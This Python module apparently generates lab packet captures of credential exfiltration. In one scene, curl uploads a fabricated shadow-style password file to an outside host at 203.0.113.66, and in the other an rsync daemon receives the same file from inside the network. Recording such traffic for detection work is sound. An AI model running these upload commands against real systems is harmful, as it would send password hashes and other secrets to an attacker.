"""Stores of credentials leave the network: curl and rsync send a file of password hashes, which are made up, to a
server outside. Needs curl and rsync.

Run it as ``python -m pcaps.lab.attacks.uploads [SCENE...]``.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Lab, record

INSIDE, FAR = "10.20.10.66", "203.0.113.66"
SHADOW = "root:*:20000:0:99999:7:::\nanna:$6$lab$" + "0123456789abcdef" * 5 + ":20000:0:99999:7:::\n"


def http(lab: Lab) -> Iterator[None]:
    """The name of the file says nothing."""
    far, inside = lab.outside("far", FAR), lab.host("desk", INSIDE)
    lab.serve(far, "pages", port=80)
    (lab.folder / "notes.txt").write_text(SHADOW, encoding="ascii")
    yield
    lab.run(inside, "curl", "-s", "-m", "5", "-F", "file=@notes.txt", f"http://{FAR}/upload")


def rsync(lab: Lab) -> Iterator[None]:
    far, inside = lab.outside("far", FAR), lab.host("desk", INSIDE)
    (lab.folder / "in").mkdir(mode=0o777)
    settings = lab.folder / "rsyncd.conf"
    lines = ("[in]", f"path = {lab.folder / 'in'}", "read only = no", "use chroot = no", "uid = root", "gid = root")
    settings.write_text("\n".join(lines) + "\n", encoding="ascii")
    lab.start(far, "rsync", "--daemon", "--no-detach", f"--config={settings}", port=873)
    (lab.folder / "shadow").write_text(SHADOW, encoding="ascii")
    yield
    lab.run(inside, "rsync", "-a", "shadow", f"rsync://{FAR}/in/")


if __name__ == "__main__":
    record(Path(__file__).parent, upload_http=http, upload_rsync=rsync)
